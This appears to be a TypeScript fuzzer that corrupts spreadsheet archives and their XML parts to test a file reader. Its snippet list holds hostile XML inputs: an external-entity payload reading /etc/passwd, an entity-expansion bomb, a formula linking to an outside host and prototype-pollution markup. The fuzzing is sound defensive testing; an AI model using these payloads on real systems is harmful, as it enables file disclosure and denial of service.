import type { Random } from '../seed/random'
import { writeArchive, readArchive, type Part } from './archive'

/** Lengths, offsets and numbers of records at which readers go wrong. */
const edges = [0, 1, 2, 0x7f, 0xff, 0x7fff, 0xffff, 0x7fffffff, 0x80000000, 0xfffffffd, 0xfffffffe, 0xffffffff]

const numbers = [
  '0',
  '-1',
  '1',
  '65536',
  '1048576',
  '1048577',
  '4294967295',
  '1e308',
  '-1e308',
  'NaN',
  '9'.repeat(400),
  '២៥',
]
const places = ['A1', 'XFD1048576', 'ZZZ1', 'A0', 'A99999999999', '$A$1', 'A1:XFD1048576', '1', 'ក១']

/** Content that no spreadsheet program writes and that attacks readers of XML. */
const snippets = [
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
  '&x;',
  '&#0;',
  '&#x110000;',
  '&#x10FFFF;',
  '<![CDATA[',
  ']]>',
  '<!--',
  '-->',
  '<?xml version="1.0" encoding="UTF-16"?>',
  '\u0000',
  '\uFFFE',
  '"',
  '<',
  '</sheetData>',
  '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
  '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
  '<c r="A2" t="s"><v>4294967295</v></c>',
  '<c r="A2" t="d"><v>9999-99-99T99:99:99Z</v></c>',
  '<c r="A2" t="str"><f>HYPERLINK("http://elsewhere.example/"&amp;A1)</f><v>=1+1</v></c>',
  '<c r="A2" s="99999"><v>2958466</v></c>',
  '<f t="shared" ref="A1:XFD1048576" si="0">A1</f>',
  '<a:__proto__ xmlns:a="a" polluted="1"/>',
]

/** A file that is like `bytes` and in one or a few places hostile. */
export function mutateFile(bytes: Uint8Array, random: Random): Uint8Array {
  const isArchive = bytes[0] === 0x50
  const way = random.int(0, isArchive ? 9 : 5)
  if (way === 0) return bytes.slice(0, random.int(1, bytes.length))
  if (way === 1) return spliced(bytes, random)
  if (way <= 5) return overwritten(bytes, random)
  return rewritten(bytes, random)
}

/** Single bits, bytes and numbers of the container. */
function overwritten(bytes: Uint8Array, random: Random): Uint8Array {
  const changed = Buffer.from(bytes)
  for (let times = random.pick([1, 1, 2, 4, 16]); times > 0; times -= 1) {
    const index = random.int(0, changed.length - 5)
    const way = random.int(0, 3)
    if (way === 0) changed[index] = (changed[index] ?? 0) ^ (1 << random.int(0, 7))
    else if (way === 1) changed[index] = random.int(0, 255)
    else if (way === 2) changed.writeUInt16LE(random.pick(edges) & 0xffff, index)
    // In the chains and directories of containers numbers are whole words.
    else changed.writeUInt32LE(random.chance(0.5) ? random.pick(edges) : random.int(0, 64), index - (index % 4))
  }
  return new Uint8Array(changed)
}

/** A part of it left out, doubled or put elsewhere. */
function spliced(bytes: Uint8Array, random: Random): Uint8Array {
  const from = random.int(0, bytes.length - 1)
  const taken = bytes.slice(from, from + random.int(1, 2048))
  const to = random.int(0, bytes.length - 1)
  const rest = random.chance(0.5) ? bytes : Buffer.concat([bytes.slice(0, from), bytes.slice(from + taken.length)])
  const repeated = Array.from({ length: random.pick([0, 1, 1, 3, 200]) }, () => taken)
  return new Uint8Array(Buffer.concat([rest.slice(0, to), ...repeated, rest.slice(to)]))
}

/** The archive is sound and what its parts say is not. */
function rewritten(bytes: Uint8Array, random: Random): Uint8Array {
  const parts = readArchive(bytes)
  const chosen = random.chance(0.6) ? parts.find(({ name }) => name.endsWith('sheet1.xml')) : random.pick(parts)
  const changed = parts.flatMap((part): Part[] => {
    if (part !== chosen) return [part]
    const way = random.int(0, 9)
    if (way === 0) return []
    if (way === 1) return [part, part]
    if (way === 2) return [{ ...part, declared: random.pick([0, 1, 1024, 1024 * 1024, 0x7fffffff]) }]
    if (way === 3) return [{ ...part, content: Buffer.from(overwritten(part.content, random)) }]
    return [{ ...part, content: Buffer.from(rewrittenText(part.content.toString('utf8'), random)) }]
  })
  return writeArchive(changed)
}

function rewrittenText(text: string, random: Random): string {
  let changed = text
  for (let times = random.pick([1, 1, 2, 5]); times > 0; times -= 1) {
    const index = random.int(0, changed.length)
    const way = random.int(0, 5)
    const begin = changed.slice(0, index)
    const rest = changed.slice(index)
    if (way === 0) changed = begin + random.pick(snippets) + rest
    else if (way === 1) changed = begin + rest.replace(/\d+/, random.pick(numbers))
    else if (way === 2) changed = begin + rest.replace(/[A-Z]+\d+/, random.pick(places))
    else if (way === 3)
      changed = begin + rest.replace(/<(row|c|si|xf|sheet)\b[^>]*>/, (tag) => tag.repeat(random.pick([2, 100, 5000])))
    else if (way === 4) changed = begin + rest.slice(random.int(1, 200))
    else
      changed =
        begin +
        rest.replace(
          />[^<]+</,
          () => `>${random.pick(['&amp;', ' ', 'ក', '=', '9'])?.repeat(random.pick([1, 255, 40_000]))}<`,
        )
  }
  return changed
}
